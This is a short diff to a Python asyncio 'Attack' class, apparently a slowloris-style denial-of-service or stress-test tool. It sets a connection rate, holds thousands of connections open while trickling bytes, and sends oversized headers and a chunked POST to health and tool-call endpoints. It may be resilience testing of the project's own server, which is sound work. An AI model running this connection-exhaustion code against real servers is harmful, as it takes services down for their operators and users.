@@ -14,6 +14,8 @@ _BLOCK = 1 << 20
 _AT_ONCE = 4
 _PAUSE = 0.05
 _CONNECTIONS = 3000
+# Connections that are opened in a second: the attack is that they stay.
+_RATE = 750
 _HEAD = b"GET /health/live HTTP/1.1\r\nHost: x\r\n"
 _CHUNKED = b"POST /tools/none/call HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
 _SMALL = b"".join(b"a%05d: b\r\n" % number for number in range(_BLOCK // 11))
@@ -103,7 +105,8 @@ class Attack:
                     for piece in _SENT[name]():
                         writer.write(piece)
                         # A server that does not read keeps us here.
-                        await asyncio.wait_for(writer.drain(), max(self._end - time.monotonic(), 0.01))
+                        async with asyncio.timeout(max(self._end - time.monotonic(), 0.01)):
+                            await writer.drain()
                         self.sent += len(piece)
                 except (ConnectionError, TimeoutError):
                     pass
@@ -113,7 +116,7 @@ class Attack:
 
     async def _hold(self, number: int, first: bytes, more: bytes) -> None:
         """Opens a connection again and again, and sends a byte a second over it."""
-        await asyncio.sleep(number / 1500)
+        await asyncio.sleep(number / _RATE)
         while time.monotonic() < self._end:
             with contextlib.suppress(OSError):
                 reader, writer = await self._open(number)
